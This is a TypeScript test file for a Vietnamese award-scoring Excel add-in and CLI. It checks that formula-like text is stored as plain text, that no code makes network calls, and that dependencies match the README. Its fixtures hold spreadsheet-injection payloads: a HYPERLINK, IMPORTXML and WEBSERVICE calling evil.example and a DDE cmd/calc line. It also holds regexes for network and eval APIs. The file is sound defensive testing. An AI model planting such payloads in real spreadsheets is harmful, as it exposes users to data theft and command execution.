/**
 * Nothing let in.
 * - Text that starts with `=`, `+`, `-` or `@` (unit names, criterion names, evidence, notes, award
 *   names and so the reasons naming them, the cluster's name and period, classification bands) is
 *   written as that very text, never as a formula, by both hosts: no formula cell in the CLI's
 *   output (neither as exceljs reads it nor as `<f>` in the file), no formula stored by the
 *   in-memory Excel, and the text arrives unchanged.
 * - No network at run time: the task pane page may connect to its own origin only, the production
 *   bundles call no network API, and no source file of the add-in or the CLI imports one. (The
 *   page's script and eval rules, `eval`/`new Function` in the bundles and the manifest's
 *   permission and domains are checked in test/build/dist.test.ts; this file adds what it lacks.)
 * - The production dependencies are exactly the ones README's table documents.
 */
import { readdirSync, readFileSync, statSync } from 'node:fs';
import path from 'node:path';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { MemoryWorkbook } from '../../src/testing/fake-excel';
import { createOfficeApi } from '../../src/hosts/office';
import type { Cell, WorkbookGrid } from '../../src/workbook/grid';
import { DIST, ROOT, distText, ensureDist } from '../build/dist';
import { table } from '../support/office';
import { addRow, base, edit } from './corpus';
import { cliScore, officeRun, removeFolders, xlsxOf } from './support/hosts';
import { loadWorkbook } from './support/rich';
import { sheetPaths } from './support/xlsx';

afterAll(removeFolders);

const UNITS: Record<string, string> = {
  'Thủy Nguyên': '=1+1',
  'An Lão': '+84 An Lão',
  'Kiến Thụy': '-Kiến Thụy',
  'Vĩnh Bảo': '@Vĩnh Bảo',
};
const EVIDENCE = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', '+SUM(1,2)', '-2+3', '@SUM(A1)', "=cmd|' /C calc'!A0"];
const AWARDS = ['=Cờ thi đua', '+Bằng khen', '@Bằng khen chuyên đề'];
const BANDS = ['=Xuất sắc', '+Tốt', '-Khá', '@Trung bình', 'Yếu'];

/** The small cluster with formula-like text everywhere a user types text. */
function hostile(): WorkbookGrid {
  const rename = (rows: Cell[][]): Cell[][] => rows.map((r) => r.map((c) => (typeof c === 'string' && UNITS[c] !== undefined ? UNITS[c]! : c)));
  let wb = base();
  wb = { ...wb, sheets: wb.sheets.map((s) => (s.name === 'Số liệu' || s.name === 'Đơn vị' ? { ...s, rows: rename(s.rows) } : s)) };
  wb = edit(wb, 'Số liệu', [0, 7, 'Ghi chú'], ...EVIDENCE.map((e, i): [number, number, Cell] => [1 + i, 6, e]), [1, 7, '=IMPORTXML("http://evil.example")']);
  wb = edit(wb, 'Đơn vị', [1, 3, '=WEBSERVICE("http://evil.example")']);
  wb = edit(wb, 'Tiêu chí', [2, 1, '=SUM(A1:A9)'], [3, 1, '-Tỷ lệ hộ nghèo']);
  // Award names, with minimums some units miss: the reasons then name them.
  wb = edit(wb, 'Khen thưởng', ...AWARDS.map((a, i): [number, number, Cell] => [1 + i, 1, a]), [1, 6, '95%'], [2, 6, 80]);
  wb = edit(wb, 'Cài đặt', [1, 1, '=Cụm thử'], [3, 1, '+năm']);
  // Thresholds that put each of the four units in one of the four formula-like bands.
  return addRow(wb, 'Cài đặt', ['Xếp loại', BANDS.map((b, i) => `${b} ${[100, 85, 78, 70, 0][i]}`).join('; ')]);
}

const OUTPUTS = ['Kết quả', 'Chi tiết điểm', 'Đề nghị khen thưởng'];

/** Every string the output sheets must hold as text, exactly. */
function expectedTexts(): string[] {
  return [...Object.values(UNITS), ...EVIDENCE, '=SUM(A1:A9)', '-Tỷ lệ hộ nghèo', ...BANDS.filter((b) => b !== 'Yếu')];
}

describe('formula-like text is written as text', () => {
  it('the CLI: the texts arrive unchanged, and no output cell is a formula', async () => {
    const r = await cliScore(await xlsxOf(hostile()));
    expect(r.err.filter((l) => !l.startsWith('Cảnh báo: '))).toEqual([]);
    expect(r.code).toBe(0);
    const out = new Uint8Array(readFileSync(path.join(r.dir, 'out.xlsx')));
    const wb = await loadWorkbook(out);
    const texts: unknown[] = [];
    for (const name of OUTPUTS)
      wb.getWorksheet(name)!.eachRow((row) =>
        row.eachCell((cell) => {
          expect({ sheet: name, cell: cell.address, formula: cell.formula ?? null }).toEqual({ sheet: name, cell: cell.address, formula: null });
          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
          texts.push(cell.value);
        }),
      );
    for (const t of expectedTexts()) expect({ text: t, found: texts.includes(t) }).toEqual({ text: t, found: true });
    // Award names appear as the award or inside a reason (“Dưới điểm tối thiểu của +Bằng khen”).
    for (const a of AWARDS.slice(0, 2)) expect({ a, found: texts.some((t) => typeof t === 'string' && t.includes(a)) }).toEqual({ a, found: true });
    expect(String(texts[0])).toContain('=Cụm thử — +năm 2024');
    // In the file itself: the output sheets hold no formula element at all.
    const zip = await JSZip.loadAsync(out);
    const paths = await sheetPaths(zip);
    for (const name of OUTPUTS) expect({ name, f: (await zip.file(paths.get(name)!)!.async('string')).match(/<f[ >/]/g) }).toEqual({ name, f: null });
    // And the result JSON carries the names as plain strings.
    expect(r.json!.units.map((u) => u.unit).sort()).toEqual(Object.values(UNITS).sort());
  });

  it('the Office.js host: no formula stored, the texts arrive unchanged', async () => {
    const o = await officeRun(hostile(), true);
    if (!o.scored.ok) throw new Error(o.scored.error);
    expect(o.scored.value.result.ok).toBe(true);
    expect(o.scored.value.written).toEqual(OUTPUTS);
    for (const name of [...OUTPUTS, 'ThiDua_DanhDau']) expect({ name, formulas: [...o.book.sheet(name)!.formulas.values()] }).toEqual({ name, formulas: [] });
    const texts = OUTPUTS.flatMap((n) => table(o.book, n).flat());
    for (const t of expectedTexts()) expect({ text: t, found: texts.includes(t) }).toEqual({ text: t, found: true });
    for (const a of AWARDS.slice(0, 2)) expect({ a, found: texts.some((t) => typeof t === 'string' && t.includes(a)) }).toEqual({ a, found: true });
    // The input sheets still hold the user's text as they typed it, as values.
    expect(o.book.valueAt('Số liệu', 'A2')).toBe('=1+1');
    expect(o.book.formulaAt('Số liệu', 'A2')).toBeNull();
  });

  it('the Office.js host writes text Excel would turn into a number, date, boolean or error as that text', async () => {
    const tricky = ['1.1', '1/2', '10:30', 'TRUE', '#N/A', '5%', "'quoted", '(3)', '1e5', '2024-12-31'];
    const grid = edit(base(), 'Số liệu', ...tricky.map((t, i): [number, number, Cell] => [1 + i, 6, t]));
    const book = MemoryWorkbook.fromGrid(grid);
    const outcome = await createOfficeApi(book.run).score({ lang: 'vi', flagInPlace: false });
    if (!outcome.ok) throw new Error(outcome.error);
    const evidence = table(book, 'Chi tiết điểm', 11).map((r) => r[9]);
    for (const t of tricky) expect({ t, found: evidence.includes(t) }).toEqual({ t, found: true });
  });
});

/** Source files under a folder, recursively. */
function sources(dir: string): string[] {
  return readdirSync(dir).flatMap((name) => {
    const p = path.join(dir, name);
    return statSync(p).isDirectory() ? sources(p) : /\.(ts|tsx)$/.test(name) ? [p] : [];
  });
}

describe('no network at run time, no code from strings', () => {
  const NETWORK = /\bfetch\s*\(|XMLHttpRequest|\bWebSocket\b|\bEventSource\b|sendBeacon|importScripts|\bnew\s+Worker\b/;

  it('no source file imports a network or process module, evaluates strings or sets raw HTML', () => {
    const files = sources(path.join(ROOT, 'src')).filter((f) => !f.includes(`${path.sep}preview${path.sep}`));
    expect(files.length).toBeGreaterThan(50);
    const bad: string[] = [];
    for (const f of files) {
      const text = readFileSync(f, 'utf8');
      const rel = path.relative(ROOT, f);
      // The one exception: `thidua score --pdf` runs LibreOffice (a local program, found by path, fixed
      // arguments, no shell) to print the documents; it is only in the command line, never in the pane.
      const processAllowed = rel === path.join('src', 'cli', 'pdf.ts') && !/from\s+['"](node:)?(http|https|http2|net|tls|dgram|dns|worker_threads|vm)['"]/.test(text) && !/\bexec\s*\(|spawn\s*\([^)]*shell/.test(text);
      if (!processAllowed && /from\s+['"](node:)?(http|https|http2|net|tls|dgram|dns|child_process|worker_threads|vm)['"]/.test(text)) bad.push(`${rel}: imports a network or process module`);
      if (NETWORK.test(text)) bad.push(`${rel}: calls a network API`);
      if (/\beval\s*\(|new\s+Function\s*\(|setTimeout\s*\(\s*['"`]/.test(text)) bad.push(`${rel}: evaluates a string`);
      if (/dangerouslySetInnerHTML|\.innerHTML\s*=|document\.write\s*\(/.test(text)) bad.push(`${rel}: sets raw HTML`);
    }
    expect(bad).toEqual([]);
  });

  describe('the production build', () => {
    beforeAll(async () => {
      const build = await ensureDist();
      if (build.reason) console.log(`dist/ rebuilt (${build.reason}) in ${build.seconds.toFixed(1)} s`);
    }, 300_000);

    it('lets the task pane page connect to its own origin only, and load nothing from elsewhere but office.js', () => {
      const html = distText('taskpane.html');
      const csp = /http-equiv=["']?Content-Security-Policy["']?\s+content="([^"]*)"/i.exec(html)?.[1] ?? '';
      const directives = new Map(csp.split(';').map((d) => d.trim().split(/\s+/)).map(([k, ...v]) => [k!, v]));
      expect(directives.get('connect-src')).toEqual(["'self'"]);
      expect(directives.get('form-action')).toEqual(["'none'"]);
      expect(directives.get('base-uri')).toEqual(["'self'"]);
      for (const [name, values] of directives) {
        expect({ name, eval: values.filter((v) => /unsafe-eval|wasm-unsafe-eval|unsafe-hashes/.test(v)) }).toEqual({ name, eval: [] });
        for (const v of values) expect({ name, v }).toEqual({ name, v: expect.stringMatching(/^('self'|'none'|'unsafe-inline'|data:|https:\/\/appsforoffice\.microsoft\.com)$/) as unknown });
      }
      // 'unsafe-inline' only for styles (Fluent UI inserts style rules at run time), never for scripts.
      expect([...directives].filter(([, v]) => v.includes("'unsafe-inline'")).map(([k]) => k)).toEqual(['style-src']);
      const srcs = [...html.matchAll(/<(?:script|link|img|iframe)\b[^>]*\b(?:src|href)=["']?([^"' >]+)/gi)].map((m) => m[1]!);
      expect(srcs.filter((s) => /^[a-z]+:\/\//i.test(s) && !s.startsWith('https://appsforoffice.microsoft.com/'))).toEqual([]);
    });

    it('the bundles call no network API', () => {
      for (const file of readdirSync(DIST).filter((f) => f.endsWith('.js'))) {
        const code = distText(file);
        // jszip's setImmediate polyfill (the pane's zip chunk) reads `global.importScripts` to tell a
        // worker from a page; a call is what this looks for, so importScripts counts when called.
        const calls = new RegExp(NETWORK.source.replace('importScripts', 'importScripts\\s*\\('), 'g');
        expect({ file, hits: code.match(calls) }).toEqual({ file, hits: null });
      }
    });
  });
});

describe('production dependencies', () => {
  it('are exactly the packages of README’s “Production dependencies” table', () => {
    const readme = readFileSync(path.join(ROOT, 'README.md'), 'utf8');
    const section = /^## Production dependencies\n([\s\S]*?)(?=^## )/m.exec(readme)?.[1] ?? '';
    const rows = section.split('\n').filter((l) => /^\|\s*`/.test(l));
    expect(rows.length).toBeGreaterThan(0);
    const documented = rows.flatMap((l) => [...l.split('|')[1]!.matchAll(/`([^`]+)`/g)].map((m) => m[1]!));
    const pkg = JSON.parse(readFileSync(path.join(ROOT, 'package.json'), 'utf8')) as { dependencies?: Record<string, string>; optionalDependencies?: Record<string, string> };
    expect(Object.keys(pkg.dependencies ?? {}).sort()).toEqual([...documented].sort());
    expect(documented.length).toBeLessThanOrEqual(8);
  });
});
